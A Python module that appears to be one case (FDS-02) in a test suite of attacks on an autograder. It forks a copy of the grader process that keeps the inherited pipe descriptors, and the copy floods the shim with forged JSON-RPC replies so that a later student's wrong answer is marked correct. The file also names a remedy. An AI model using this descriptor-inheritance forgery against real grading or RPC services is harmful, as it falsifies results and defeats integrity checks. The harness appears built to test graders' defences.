# SPDX-License-Identifier: MIT
"""Goal:  an accomplice's wrong answer is marked correct, two students later.
Means: fork(2) inside the grader. Close-on-exec closes at exec, and there is none: the copy has
       every descriptor of the grader, the pipe to the shim among them, and is gone from its
       memory. It answers requests that are still to come, every millisecond.
"""

import os
import select
import stat
import sys
import time

from attack import DONE, attempting, denied, submit

FIRST, HIGHEST, IDS = 3, 64, range(4, 8)
TIMES, EVERY = 5000, 0.001
TIME = 0.1  # the accomplice gives the copy time to answer


def frame(number):
    body = f'{{"jsonrpc": "2.0", "id": {number}, "result": {{"is_correct": true, "feedback": ""}}}}'
    return f"Content-Length: {len(body)}\r\n\r\n{body}".encode()


def outputs():
    """One descriptor of each pipe that can be written to; one of them leads to the shim."""
    pipes = {}
    for fd in range(FIRST, HIGHEST):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and os.write(fd, b"") == 0:
                pipes[os.fstat(fd).st_ino] = fd
        except OSError:
            pass  # not open, or open for reading
    return list(pipes.values())


def answer(pipes):
    for _ in range(TIMES):
        for fd in select.select([], pipes, [], 0)[1]:
            os.write(fd, b"".join(frame(number) for number in IDS))
        time.sleep(EVERY)


def run(brief):
    submit("0")
    attempting()
    if brief.again:
        time.sleep(TIME)
        return DONE
    if "grader" not in sys.modules:
        return denied("sys.modules", "the grader's descriptors are not in this process")
    pipes = outputs()
    if os.fork() == 0:
        try:
            answer(pipes)
        finally:
            os._exit(0)
    return DONE


ATTACK = {
    "effect": "a later student's wrong submission is marked correct",
    "means": "a forked copy of the grader, with its descriptors, answers in its place",
    "oracle": "grade:forged",
    "scene": "before-victim",
    "grader": "rpc",
    "control": "in-process",
    "id": "FDS-02",
    "attack_id": "T1565.002, CWE-403, CWE-345",
    "remedy": "a process of its own for each submission, started by exec with three descriptors",
    "run": run,
}
